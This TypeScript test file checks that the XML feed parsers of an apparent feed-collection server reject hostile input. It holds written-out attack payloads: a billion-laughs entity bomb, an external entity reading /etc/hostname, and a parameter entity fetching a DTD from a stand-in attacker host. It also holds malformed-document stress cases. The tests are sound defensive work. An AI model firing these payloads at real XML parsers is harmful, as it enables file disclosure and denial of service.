import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { normalisers } from '../../../server/src/listen/collect/normalisers.js';
import { faultsOf } from '../../support/hostile/check-lines.ts';
import { harmless, xmlPayloads } from '../../support/hostile/channel-payloads.ts';
import type { XmlChannel } from '../../support/hostile/channel-payloads.ts';

const channels = Object.keys(xmlPayloads) as XmlChannel[];
const read = (channel: XmlChannel, text: string | Uint8Array): ReturnType<NonNullable<ReturnType<typeof normalisers.get>>> =>
  normalisers.get(channel)!(typeof text === 'string' ? new TextEncoder().encode(text) : text, { origin: null });
const laughs = Array.from({ length: 9 }, (_unused, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
/** The channel's own document with a document type before its root element, and a reference in its title. */
const withEntities = (channel: XmlChannel, entities: string, reference: string): string => {
  const whole = xmlPayloads[channel]({ ...harmless, title: 'HERE', text: 'HERE' });
  const root = /<(?!\?)[\w:]+/.exec(whole)!;
  return `${whole.slice(0, root.index)}<!DOCTYPE x [${entities}]>${whole.slice(root.index).replaceAll('HERE', reference)}`;
};

describe.each(channels)('T8: %s', (channel) => {
  it.each([
    ['entities that multiply', `<!ENTITY l0 "ha">${laughs}`, '&l9;'],
    ['one long entity used often', `<!ENTITY a "${'a'.repeat(50_000)}">`, '&a;'.repeat(20_000)],
    ['an entity that names a file', '<!ENTITY x SYSTEM "file:///etc/hostname">', '&x;'],
    ['a parameter entity from outside', '<!ENTITY % p SYSTEM "https://evil.mihon.example/x.dtd"> %p;', 'x'],
  ])('unpacks nothing of %s', (_what, entities, reference) => {
    const before = process.memoryUsage().heapUsed;
    const { lines, problems } = read(channel, withEntities(channel, entities, reference));
    expect([lines.length, problems.length > 0]).toEqual([0, true]);
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(200_000_000);
  });

  it.each([
    ['200,000 levels', (whole: string) => whole.replace('<title>', `${'<a>'.repeat(200_000)}<title>`)],
    ['300,000 attributes', (whole: string) => whole.replace(/<(item|entry)/, (start) => `${start} ${Array.from({ length: 300_000 }, (_unused, at) => `a${at}="1"`).join(' ')}`)],
    ['a comment without an end', (whole: string) => whole.replace('<title>', `<!--${'-'.repeat(500_000)}<title>`)],
    ['100,000 open quotes', (whole: string) => whole.replace('<title>', `<title ${'a="'.repeat(100_000)}>`)],
  ])('survives %s', (_what, spoil) => {
    expect(faultsOf(read(channel, spoil(xmlPayloads[channel](harmless))).lines)).toEqual([]);
  });

  it('T9: cut at any of 500 bytes says so and never gives half a post', () => {
    const bytes = Buffer.from(xmlPayloads[channel](harmless));
    const whole = read(channel, bytes).lines;
    fc.assert(fc.property(fc.integer({ min: 1, max: bytes.length - 1 }), (cut) => {
      const { lines, problems } = read(channel, bytes.subarray(0, cut));
      expect(problems.length).toBeGreaterThan(0);
      expect([[], whole]).toContainEqual(lines);
    }), { numRuns: 500, seed: 9 });
  });
});
